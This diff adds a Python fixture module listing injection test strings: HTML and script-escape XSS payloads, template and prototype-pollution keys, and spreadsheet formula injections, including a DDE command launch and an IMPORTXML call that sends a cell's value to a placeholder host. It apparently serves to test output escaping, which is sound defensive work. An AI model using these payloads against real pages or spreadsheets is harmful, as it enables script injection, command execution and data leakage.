@@ -1,0 +1,53 @@
+"""Texts that try to get out of where they stand: into markup, script, a formula, a path or a template."""
+
+HTML = (
+    "<script>window.hacked=1</script>",
+    "</script><script>window.hacked=1</script>",
+    "<!--<script>window.hacked=1</script>-->",
+    "<img src=x onerror=window.hacked=1>",
+    "<svg onload=window.hacked=1>",
+    '" onmouseover="window.hacked=1" x="',
+    "' onfocus='window.hacked=1' autofocus='",
+    '<iframe src="javascript:parent.hacked=1"></iframe>',
+    '<a href="javascript:window.hacked=1">x</a>',
+    "<details open ontoggle=window.hacked=1>",
+    "</textarea></title></style><script>window.hacked=1</script>",
+    "{{constructor.constructor('window.hacked=1')()}}",
+    "{% raw %}{{ 7*7 }}{% endraw %}",
+    "${window.hacked=1}",
+    "`;window.hacked=1;//",
+    "\u2028window.hacked=1\u2029",
+    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
+    "<math><mtext></mtext><script>window.hacked=1</script></math>",
+    "]]><script>window.hacked=1</script>",
+    "<base href=https://example.invalid/>",
+    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
+    "<link rel=stylesheet href=https://example.invalid/x.css>",
+    "<style>@import 'https://example.invalid/x.css';</style>",
+    "x\x00y\x08z\ud800",
+    "__proto__",
+    "constructor",
+    "O'Brien & Söhne <b>",
+    "张三\"李四'王五<赵六>&amp;",
+)
+
+FORMULAS = (
+    '=HYPERLINK("https://example.invalid","click")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "＝1+1",
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
+    '=1,2"\n=3',
+)
+
+ALL = (*HTML, *FORMULAS)
